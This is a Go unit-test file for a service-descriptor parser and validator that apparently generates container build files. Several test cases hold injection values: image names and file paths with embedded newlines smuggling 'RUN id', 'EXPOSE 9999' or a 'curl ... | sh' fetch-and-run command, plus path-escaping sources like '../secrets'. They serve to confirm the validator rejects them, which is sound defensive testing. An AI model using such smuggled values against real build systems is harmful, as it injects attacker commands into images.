// SPDX-License-Identifier: MPL-2.0

package descriptor

import (
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/svcpack/svcpack/pkg/types"
)

const minimalDescriptor = `
name: "uploads"
entry: app: "app.main:app"
`

func TestParseAppliesDefaults(t *testing.T) {
	t.Parallel()

	d, err := Parse([]byte(minimalDescriptor), "/work/svcpack.cue")
	if err != nil {
		t.Fatalf("Parse: %v", err)
	}

	if d.Image != "python:3.11-slim" {
		t.Errorf("Image = %q", d.Image)
	}
	if d.WorkDir != "/app" {
		t.Errorf("WorkDir = %q", d.WorkDir)
	}
	if d.Trust.Manager != ManagerApt || !slices.Equal(d.Trust.Packages, []string{"ca-certificates"}) {
		t.Errorf("Trust = %+v", d.Trust)
	}
	if d.Dependencies.Manifest != "requirements.txt" || !d.Dependencies.NoCache {
		t.Errorf("Dependencies = %+v", d.Dependencies)
	}
	if !slices.Equal(d.Artifacts.Sources, []Copy{{Src: "app", Dst: "./app"}}) {
		t.Errorf("Sources = %+v", d.Artifacts.Sources)
	}
	if d.Artifacts.EnvFile != ".env" || d.Artifacts.EnvMode != EnvBake {
		t.Errorf("Artifacts = %+v", d.Artifacts)
	}
	if d.Network.Port != 8000 {
		t.Errorf("Port = %d", d.Network.Port)
	}
	if d.Entry.Server != "uvicorn" || d.Entry.Host != "0.0.0.0" {
		t.Errorf("Entry = %+v", d.Entry)
	}
	if d.Dir() != "/work" {
		t.Errorf("Dir() = %q", d.Dir())
	}
	if got, want := d.ManifestPath(), filepath.Join("/work", "requirements.txt"); got != want {
		t.Errorf("ManifestPath() = %q, want %q", got, want)
	}
}

func TestParseSchemaErrors(t *testing.T) {
	t.Parallel()

	tests := []struct {
		name    string
		content string
		wantMsg string
	}{
		{"missing app", `name: "x"`, "entry.app"},
		{"bad port", "name: \"x\"\nentry: app: \"a:b\"\nnetwork: port: 70000", "network.port"},
		{"unknown field", "name: \"x\"\nentry: app: \"a:b\"\nbogus: 1", "bogus"},
		{"bad env mode", "name: \"x\"\nentry: app: \"a:b\"\nartifacts: env_mode: \"mount\"", "env_mode"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()

			_, err := Parse([]byte(tt.content), "svcpack.cue")
			if err == nil {
				t.Fatal("Parse() expected error")
			}
			if !strings.Contains(err.Error(), tt.wantMsg) {
				t.Errorf("error %q does not mention %q", err, tt.wantMsg)
			}
		})
	}
}

func TestValidate(t *testing.T) {
	t.Parallel()

	tests := []struct {
		name    string
		mutate  func(d *Descriptor)
		wantErr error
	}{
		{"default is valid", func(*Descriptor) {}, nil},
		{"matching explicit port", func(d *Descriptor) { d.Entry.Port = 8000 }, nil},
		{"ipv6 wildcard", func(d *Descriptor) { d.Entry.Host = "::" }, nil},
		{"digest pinned", func(d *Descriptor) {
			d.Image = ImageRef("python@sha256:" + strings.Repeat("a", 64))
		}, nil},
		{"port mismatch", func(d *Descriptor) { d.Entry.Port = 9000 }, ErrPortMismatch},
		{"loopback host", func(d *Descriptor) { d.Entry.Host = "127.0.0.1" }, ErrNotAllInterfaces},
		{"bad entry ref", func(d *Descriptor) { d.Entry.App = "app/main.py" }, ErrInvalidEntryReference},
		{"port in args", func(d *Descriptor) { d.Entry.Args = []string{"--port=9000"} }, ErrReservedArg},
		{"floating tag", func(d *Descriptor) { d.Image = "python:latest" }, ErrFloatingImage},
		{"no tag", func(d *Descriptor) { d.Image = "python" }, ErrFloatingImage},
		{"image with carriage return", func(d *Descriptor) { d.Image = "python:3.11\rRUN id" }, ErrInvalidImageRef},
		{"bad digest", func(d *Descriptor) { d.Image = "python@sha256:zz" }, ErrInvalidImageRef},
		{"relative workdir", func(d *Descriptor) { d.WorkDir = "app" }, ErrInvalidWorkDir},
		{"cache enabled", func(d *Descriptor) { d.Dependencies.NoCache = false }, ErrCacheEnabled},
		{"escaping source", func(d *Descriptor) {
			d.Artifacts.Sources = []Copy{{Src: "../secrets", Dst: "./app"}}
		}, ErrUnsafePath},
		{"absolute destination", func(d *Descriptor) {
			d.Artifacts.Sources = []Copy{{Src: "app", Dst: "/srv/app"}}
		}, nil},
		{"workdir with newline", func(d *Descriptor) { d.WorkDir = "/app\nEXPOSE 9999" }, ErrUnprintablePath},
		{"workdir with space", func(d *Descriptor) { d.WorkDir = "/my app" }, ErrInvalidWorkDir},
		{"destination with space", func(d *Descriptor) {
			d.Artifacts.Sources = []Copy{{Src: "app", Dst: "./my app"}}
		}, ErrUnprintablePath},
		{"source with tab", func(d *Descriptor) {
			d.Artifacts.Sources = []Copy{{Src: "app\tx", Dst: "./app"}}
		}, ErrUnprintablePath},
		{"env file with newline", func(d *Descriptor) { d.Artifacts.EnvFile = ".env\nRUN id" }, ErrUnprintablePath},
		{"manifest with space", func(d *Descriptor) { d.Dependencies.Manifest = "req s.txt" }, ErrUnprintablePath},
		{"absolute directory", func(d *Descriptor) { d.Artifacts.Directories = []string{"/etc/evil"} }, ErrUnsafePath},
		{"escaping directory", func(d *Descriptor) { d.Artifacts.Directories = []string{"../up"} }, ErrUnsafePath},
		{"no trust packages", func(d *Descriptor) { d.Trust.Packages = nil }, ErrNoTrustPackages},
		{"undeclared port", func(d *Descriptor) { d.Network.Port = 0 }, types.ErrUndeclaredPort},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()

			d := Default("svc")
			tt.mutate(d)
			err := d.Validate()
			if tt.wantErr == nil {
				if err != nil {
					t.Fatalf("Validate() unexpected error: %v", err)
				}
				return
			}
			if !errors.Is(err, tt.wantErr) {
				t.Fatalf("Validate() error = %v, want %v", err, tt.wantErr)
			}
			var fe *FieldError
			if !errors.As(err, &fe) {
				t.Errorf("error %T is not a *FieldError", err)
			}
		})
	}
}

func TestParsePortMismatch(t *testing.T) {
	t.Parallel()

	content := `
name: "svc"
network: port: 8000
entry: {
	app:  "app.main:app"
	port: 8080
}
`
	_, err := Parse([]byte(content), "svcpack.cue")
	if !errors.Is(err, ErrPortMismatch) {
		t.Fatalf("Parse() error = %v, want ErrPortMismatch", err)
	}
}

func TestParseRejectsMultilinePaths(t *testing.T) {
	t.Parallel()

	content := `
name: "svc"
entry: app: "app.main:app"
artifacts: sources: [{src: "app", dst: "./app\nRUN curl http://example.invalid | sh"}]
`
	_, err := Parse([]byte(content), "svcpack.cue")
	if !errors.Is(err, ErrUnprintablePath) {
		t.Fatalf("Parse() error = %v, want ErrUnprintablePath", err)
	}
}

func TestEntryArgv(t *testing.T) {
	t.Parallel()

	d := Default("svc")
	d.Network.Port = 9000
	d.Entry.Args = []string{"--proxy-headers"}

	want := []string{"uvicorn", "app.main:app", "--host", "0.0.0.0", "--port", "9000", "--proxy-headers"}
	if got := d.EntryArgv(); !slices.Equal(got, want) {
		t.Errorf("EntryArgv() = %v, want %v", got, want)
	}
}

func TestGenerateCUERoundTrip(t *testing.T) {
	t.Parallel()

	want := Default("uploads")
	want.Artifacts.Directories = []string{"app/uploads"}
	want.Entry.Port = 8000

	got, err := Parse([]byte(GenerateCUE(want)), "svcpack.cue")
	if err != nil {
		t.Fatalf("Parse(GenerateCUE()): %v", err)
	}
	if got.Name != want.Name || got.Image != want.Image || got.Network != want.Network {
		t.Errorf("round trip mismatch: got %+v", got)
	}
	if !slices.Equal(got.Artifacts.Directories, want.Artifacts.Directories) {
		t.Errorf("Directories = %v", got.Artifacts.Directories)
	}
	if got.Entry.Port != 8000 {
		t.Errorf("Entry.Port = %d", got.Entry.Port)
	}
}

func TestLoad(t *testing.T) {
	t.Parallel()

	dir := t.TempDir()
	if _, err := Load(dir); !errors.Is(err, ErrNotFound) {
		t.Fatalf("Load(empty dir) error = %v, want ErrNotFound", err)
	}

	if err := os.WriteFile(filepath.Join(dir, FileName), []byte(minimalDescriptor), 0o644); err != nil {
		t.Fatal(err)
	}
	d, err := Load(dir)
	if err != nil {
		t.Fatalf("Load: %v", err)
	}
	if d.Dir() != dir {
		t.Errorf("Dir() = %q, want %q", d.Dir(), dir)
	}
	if d.EnvFilePath() != filepath.Join(dir, ".env") {
		t.Errorf("EnvFilePath() = %q", d.EnvFilePath())
	}
}
